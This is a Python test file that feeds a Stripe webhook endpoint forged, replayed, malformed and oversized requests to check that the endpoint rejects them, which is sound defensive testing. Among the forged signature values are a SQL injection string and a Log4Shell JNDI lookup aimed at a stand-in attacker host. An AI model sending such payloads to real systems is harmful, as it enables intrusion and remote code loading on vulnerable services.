"""Webhooks that Stripe did not send, or that say nothing: forged, old, or signed nonsense."""

import hashlib
import hmac
import time
from collections.abc import Iterator

import orjson

from tests.integration.hostile.hostile_request import JSON, Header, HostileRequest, routes
from tests.support.signed_webhooks import SECRET, a_stripe_event

_NO_EVENTS = (
    *(b"", b"null", b"[]", b"1", b'""', b"{}", b"NaN", b"[" * 20_000, b"\x00", b"\xff\xfe", b'{"id": "evt_1"}'),
    *(b'{"id": 1, "object": "event"}', b'{"id": "evt_1", "object": "charge"}', b'{"object": "event"}'),
    b'{"id": "\\ud800", "object": "event", "type": "a", "livemode": false}',
)
_WRONG = (
    *({"id": None}, {"id": 7}, {"id": ""}, {"id": "evt_" + "a" * 10_000}),
    *({"type": None}, {"type": 7}, {"type": ""}, {"livemode": "false"}, {"livemode": None}, {"livemode": True}),
    *({"object": "list"}, {"object": None}),
)


def hostile_webhooks() -> Iterator[HostileRequest]:
    """Yield requests to the endpoint that Stripe calls."""
    (route,) = (each for each in routes("command-api") if not each.needs_key)
    event = orjson.dumps(a_stripe_event())
    plain = HostileRequest(reason="", route=route, target=route.path.encode(), headers=(JSON,), body=event)
    for reason, signature in _forged(event):
        yield plain.but(reason, headers=(JSON, *signature))
    for body in _NO_EVENTS:
        yield plain.but(f"signed: {body[:30]!r}", headers=(JSON, _signed(body)), body=body)
    for changes in _WRONG:
        body = orjson.dumps(a_stripe_event(**changes))
        yield plain.but(f"signed: {str(changes)[:40]}", headers=(JSON, _signed(body)), body=body)
    large = orjson.dumps(a_stripe_event(obj={"text": "a" * 2_000_000}))
    yield plain.but("signed, and too large", headers=(JSON, _signed(large)), body=large, may_end_early=True)
    for name in (b"Content-Encoding", b"content-encoding"):
        yield plain.but("signed, and compressed", headers=(JSON, _signed(event), (name, b"gzip")))


def _forged(event: bytes) -> Iterator[tuple[str, tuple[Header, ...]]]:
    now = int(time.time())
    right = _signature(event, now)
    values = (
        *("", " ", "t=", "v1=", f"t={now}", f"v1={right}", f"t={now},v1=", f"t={now},v1={'0' * 64}"),
        *(f"t={now},v0={right}", f"t={now},v1={right[:-1]}", f"t={now},v1={right}0", f"t={now + 1},v1={right}"),
        *(f"t=-{now},v1={right}", f"t={now}.0,v1={right}", f"t=1e9,v1={right}", f"t=NaN,v1={right}"),
        *(f"t={now} v1={right}", f"t={now};v1={right}", f"T={now},V1={right}x", f"t=,v1={right}"),
        *(f"t={now - 3600},v1={_signature(event, now - 3600)}", f"t={'9' * 400},v1={right}"),
        *(f"t={now},v1={_signature(event, now, 'whsec_wrong')}", f"t={now},v1={_signature(event, now, '')}"),
        *(f"t={now},v1={_signature(event + b' ', now)}", ",".join(f"v1={'0' * 64}" for _ in range(100))),
        *("' OR 1=1 --", "a" * 8_000, "${jndi:ldap://attacker.example}"),
    )
    yield "no signature", ()
    for value in values:
        yield f"signature {value[:40]!r}", ((b"Stripe-Signature", value.encode()),)
    yield "a signature in bytes", ((b"Stripe-Signature", b"t=\xff,v1=\xfe"),)
    yield "two signatures", (_signed(event), _signed(event))


def _signed(body: bytes) -> Header:
    now = int(time.time())
    return b"Stripe-Signature", f"t={now},v1={_signature(body, now)}".encode()


def _signature(body: bytes, at: int, secret: str = SECRET) -> str:
    return hmac.new(secret.encode(), b"%d.%b" % (at, body), hashlib.sha256).hexdigest()
